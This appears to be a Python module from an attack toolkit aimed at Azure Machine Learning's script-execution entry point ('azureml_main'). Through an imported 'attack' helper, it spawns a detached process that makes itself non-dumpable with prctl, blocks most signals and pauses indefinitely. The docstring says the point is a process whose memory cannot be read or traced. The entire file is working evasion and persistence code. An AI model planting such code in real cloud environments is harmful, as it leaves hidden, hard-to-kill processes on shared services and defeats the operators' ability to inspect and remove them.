"""Leaves a process whose memory nobody may read and that cannot be traced."""

import signal

from attack import LIBC, attack, detached


def hide():
    LIBC.prctl(4, 0, 0, 0, 0)
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 32))
    signal.pause()


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    detached(hide)
    return ""
